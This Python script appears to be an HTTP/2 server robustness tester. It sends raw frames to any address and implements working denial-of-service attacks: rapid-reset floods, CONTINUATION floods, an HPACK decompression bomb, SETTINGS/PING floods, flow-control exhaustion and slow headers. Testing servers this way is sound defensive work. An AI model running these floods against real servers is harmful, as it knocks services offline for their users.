"""Speaks HTTP/2 as no client should: raw frames to a server, as fast as they are taken.

http2_abuse.py TO KIND    TO is ADDRESS:PORT; see KINDS at the end

Ends when the server ends the connection, when it takes nothing for a while, or when everything was sent. The last line of
output is a report in JSON: what was sent, which statuses came, how it ended.
"""

import json
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS, ACK = 1, 4, 1
CANCEL = 8
# Nobody who means to take something waits longer.
STALLED = 3
# A flood that is taken drop by drop goes on for so long.
FLOOD = 10
# Answers without end are read for so long.
DRAIN = 10
# The digits in HPACK's Huffman code (RFC 7541, appendix B).
DIGITS = dict(zip(("00000", "00001", "00010", "011001", "011010", "011011", "011100", "011101", "011110", "011111"),
                  "0123456789"))
INDEXED_STATUS = {0x88: 200, 0x89: 204, 0x8A: 206, 0x8B: 304, 0x8C: 400, 0x8D: 404, 0x8E: 500}


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value, how=0x00):
    """A field that names itself. 0x40 also enters it into the table."""
    return bytes([how]) + number(len(name), 7) + name + number(len(value), 7) + value


def number(value, bits):
    most = (1 << bits) - 1
    if value < most:
        return bytes([value])
    out, value = [most], value - most
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + [value])


def head(path=b"/", method=b"GET", more=b""):
    return literal(b":method", method) + b"\x86" + literal(b":path", path) + literal(b":authority", b"x") + more


def status(block):
    """What a head that came says first; table sizes may come before."""
    while block and block[0] & 0xE0 == 0x20:
        block = block[1:]
    if block[0] in INDEXED_STATUS:
        return INDEXED_STATUS[block[0]]
    if block[0] & 0x80:
        return None  # entered into the table before
    length, value = block[1] & 0x7F, block[2 : 2 + (block[1] & 0x7F)]
    if not block[1] & 0x80:
        return int(value)
    bits, out = "".join(f"{byte:08b}" for byte in value), ""
    while len(out) < 3:
        code = next(code for code in DIGITS if bits.startswith(code))
        out, bits = out + DIGITS[code], bits[len(code) :]
    assert length
    return int(out)


class Client:
    def __init__(self, to, settings=b"", reads=True):
        host, port = to.rsplit(":", 1)
        self.sock = socket.create_connection((host, int(port)), timeout=20)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if not reads:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        self.reads, self.seen, self.sent, self.ended = reads, b"", 0, None
        self.statuses, self.resets, self.data, self.kinds = {}, {}, 0, {}
        # Streams that are over, those of them with trailers, and those that were not given up.
        self.over, self.trailers, self.kept = set(), {}, set()
        # Streams on which something of a body came.
        self.heard = set()
        self.send(PREFACE + frame(SETTINGS, 0, 0, settings) + frame(SETTINGS, ACK, 0))

    def send(self, data):
        """True while the server takes what is sent."""
        self.sock.settimeout(STALLED)
        view, last = memoryview(data), time.monotonic()
        while view and self.ended is None:
            try:
                self.sock.setblocking(False)
                view = view[self.sock.send(view) :]
                last = time.monotonic()
            except BlockingIOError:
                if self.reads:
                    self.read(0.01)
                else:
                    time.sleep(0.01)
                if time.monotonic() - last > STALLED:
                    self.ended = "stalled"
            except OSError as error:
                self.drain(1)
                self.ended = self.ended or type(error).__name__
        self.sent += len(data)
        if self.reads and self.ended is None:
            self.read(0)
        return self.ended is None

    def read(self, patience):
        self.sock.settimeout(patience)
        try:
            piece = self.sock.recv(1 << 16)
            if not piece:
                self.ended = self.ended or "closed"
            self.seen += piece
        except (BlockingIOError, TimeoutError):
            return False
        except OSError as error:
            self.ended = self.ended or type(error).__name__
            return False
        at = 0
        while len(self.seen) >= at + 9 and len(self.seen) >= (end := at + 9 + int.from_bytes(self.seen[at : at + 3], "big")):
            kind, flags, stream = struct.unpack(">BBI", self.seen[at + 3 : at + 9])
            payload, at = self.seen[at + 9 : end], end
            self.kinds[kind] = self.kinds.get(kind, 0) + 1
            if kind in (HEADERS, DATA) and flags & END_STREAM or kind == RST_STREAM:
                self.over.add(stream)
            if kind == HEADERS and stream in self.statuses:
                self.trailers[stream] = len(payload)
            if kind == HEADERS and stream not in self.statuses:
                self.statuses[stream] = status(payload)
            elif kind == DATA:
                self.data += len(payload)
                self.heard.add(stream)
            elif kind == RST_STREAM:
                self.resets[stream] = struct.unpack(">I", payload)[0]
            elif kind == GOAWAY:
                code, debug = struct.unpack(">I", payload[4:8])[0], payload[8:].decode(errors="replace")
                if code:
                    self.ended = f"goaway {code} {debug}".strip()
        self.seen = self.seen[at:]
        return bool(piece)

    def drain(self, patience):
        """Reads until the end, until nothing has come for a while, or until enough has come."""
        end = time.monotonic() + DRAIN
        while self.ended in (None, "stalled") and time.monotonic() < end and self.read(patience):
            pass

    def wait(self, condition, patience=20):
        end = time.monotonic() + patience
        while self.ended is None and not condition() and time.monotonic() < end:
            self.read(0.1)
        return condition()


def rapid_reset(to):
    client = Client(to)
    for stream in range(1, 60_000, 2):
        pair = frame(HEADERS, END_HEADERS | END_STREAM, stream, head(b"/slow")) + frame(
            RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
        if not client.send(pair):
            break
    return client


def bursts_of_resets(to):
    """Few enough at once that nobody can object, over and over: what a client with short deadlines does."""
    client, stream = Client(to), 1
    for turn in range(200):
        burst = range(stream, stream + 40, 2)
        for frames in ([frame(HEADERS, END_HEADERS | END_STREAM, one, head(b"/bytes/10000")) for one in burst],
                       [frame(RST_STREAM, 0, one, struct.pack(">I", CANCEL)) for one in burst]):
            # The answer to a PING says that the server has seen what came before.
            before = client.kinds.get(PING, 0)
            client.send(b"".join(frames) + frame(PING, 0, 0, bytes(8)))
            if not client.wait(lambda: client.kinds.get(PING, 0) > before):
                return client
        stream += 40
    return client


def continuations(to):
    client = Client(to)
    client.send(frame(HEADERS, END_STREAM, 1, head()))
    for index in range(5000):
        if not client.send(frame(CONTINUATION, 0, 1, literal(b"x-%d" % index, b"y" * 16000))):
            break
    return client


def empty_continuations(to):
    client = Client(to)
    client.send(frame(HEADERS, END_STREAM, 1, head()))
    client.send(frame(CONTINUATION, 0, 1) * 200_000)
    return client


def settings(to):
    client, end = Client(to, reads=False), time.monotonic() + FLOOD
    for _ in range(2000):
        if time.monotonic() > end or not client.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 100):
            break
    return client


def pings(to):
    client, end = Client(to, reads=False), time.monotonic() + FLOOD
    for _ in range(2000):
        if time.monotonic() > end or not client.send(frame(PING, 0, 0, bytes(8)) * 100):
            break
    return client


def bomb(to):
    """One large field in the table, and heads that name it thousands of times: 4 KiB become 60 MiB."""
    client = Client(to)
    large = literal(b"x-large", b"y" * 4000, 0x40)
    client.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, head(more=large)))
    client.wait(lambda: 1 in client.statuses)
    for stream in range(3, 43, 2):
        client.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, head(more=b"\xbe" * 15000)))
    client.wait(lambda: len(client.statuses) == 21)
    return client


def large_heads(to):
    """A little below the limit of heads, a little above, and far above."""
    client = Client(to)
    for stream, count in ((1, 30), (3, 80), (5, 200)):
        fields = b"".join(literal(b"x-%d" % index, b"y" * 1000) for index in range(count))
        block = head(more=fields)
        pieces = [block[at : at + 16000] for at in range(0, len(block), 16000)]
        for index, piece in enumerate(pieces):
            flags = (END_STREAM if index == 0 else 0) | (END_HEADERS if index + 1 == len(pieces) else 0)
            client.send(frame(HEADERS if index == 0 else CONTINUATION, flags, stream, piece))
        client.wait(lambda: stream in client.statuses)
    return client


def opening(client, stream, path=b"/stuck", method=b"POST"):
    client.send(frame(HEADERS, END_HEADERS, stream, head(path, method)))


def tiny_data(to):
    """Bodies in frames of one byte, for a server that does not read them."""
    client = Client(to)
    for stream in range(1, 33, 2):
        opening(client, stream)
        for _ in range(655):
            if not client.send(frame(DATA, 0, stream, b"x") * 100):
                return client
    return client


def empty_data(to):
    client = Client(to)
    opening(client, 1)
    for _ in range(2000):
        if not client.send(frame(DATA, 0, 1) * 100):
            break
    return client


def no_window(to):
    """As many large answers as are let in, and no window for any of them."""
    client = Client(to, settings=struct.pack(">HI", 4, 0))
    streams = range(1, 401, 2)
    for stream in streams:
        client.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, head(b"/bytes/10000000")))
    client.wait(lambda: len(client.statuses) + len(client.resets) >= len(streams))
    return client


def no_reading(to):
    """Large answers with all the window there is, of which nothing is read."""
    client = Client(to, settings=struct.pack(">HI", 4, (1 << 31) - 1), reads=False)
    client.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 31) - 1 - 65535)))
    for stream in range(1, 201, 2):
        client.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, head(b"/bytes/100000000")))
    time.sleep(2)
    return client


def windows(to):
    """Grants windows until they overflow."""
    client = Client(to)
    opening(client, 1)
    client.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 31) - 1)) * 2)
    client.wait(lambda: client.ended is not None)
    return client


def stalled_heads(to):
    """A hundred connections on which a head comes byte by byte and never ends."""
    clients, block = [Client(to) for _ in range(100)], head(more=literal(b"x-slow", b"y" * 100))
    for client in clients:
        client.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, block)[: 9 + 20])
    for byte in range(30):
        for client in clients:
            client.send(block[20 + byte : 21 + byte])
        time.sleep(0.1)
    return clients[0]


def many(to):
    """Requests in plenty, a few at a time, each of which ends when its answer has begun."""
    client, stream = Client(to), 1
    for _ in range(20):
        burst = range(stream, stream + 20, 2)
        client.send(b"".join(frame(HEADERS, END_HEADERS, one, head(method=b"POST")) for one in burst))
        client.wait(lambda: all(one in client.heard for one in burst))
        client.send(b"".join(frame(DATA, END_STREAM, one, b"end") for one in burst))
        client.wait(lambda: all(one in client.over for one in burst))
        stream += 20
    return client


def cancels(to):
    """Requests that are given up a moment after their server may have seen them."""
    client, stream = Client(to), 1
    for _ in range(20):
        burst = range(stream, stream + 20, 2)
        client.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, one, head()) for one in burst))
        client.read(0.2)
        client.send(b"".join(frame(RST_STREAM, 0, one, struct.pack(">I", CANCEL)) for one in burst))
        stream += 20
    client.read(0.2)
    return client


def between_resets(to):
    """Of each pair of requests one is given up at once; the other is waited for."""
    client, stream = Client(to), 1
    for _ in range(20):
        pairs = [(one, one + 2) for one in range(stream, stream + 40, 4)]
        client.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, one, head())
                             + frame(HEADERS, END_HEADERS | END_STREAM, two, head()) for one, two in pairs))
        client.send(b"".join(frame(RST_STREAM, 0, two, struct.pack(">I", CANCEL)) for _, two in pairs))
        client.wait(lambda: all(one in client.over for one, _ in pairs))
        client.kept.update(one for one, _ in pairs)
        stream += 40
    return client


KINDS = {name.replace("_", "-"): kind for name, kind in list(globals().items())
         if callable(kind) and getattr(kind, "__code__", None) and kind.__code__.co_varnames[:1] == ("to",)}


def reasons(client):
    counts = {}
    for one in client.resets.values():
        counts[str(one)] = counts.get(str(one), 0) + 1
    return counts


def main():
    to, kind = sys.argv[1:3]
    client = KINDS[kind](to)
    client.drain(0.5)
    counts = {}
    for one in client.statuses.values():
        counts[str(one)] = counts.get(str(one), 0) + 1
    print(json.dumps({"ended": client.ended, "sent": client.sent, "statuses": counts, "resets": len(client.resets),
                      "data": client.data, "trailers": sum(one in client.trailers for one in client.kept), "reasons": reasons(client), "first": client.statuses.get(1), "kinds": client.kinds}), flush=True)
    # Holds what it has until somebody has looked.
    if len(sys.argv) > 3:
        sys.stdin.read()
        time.sleep(float(sys.argv[3]))


main()
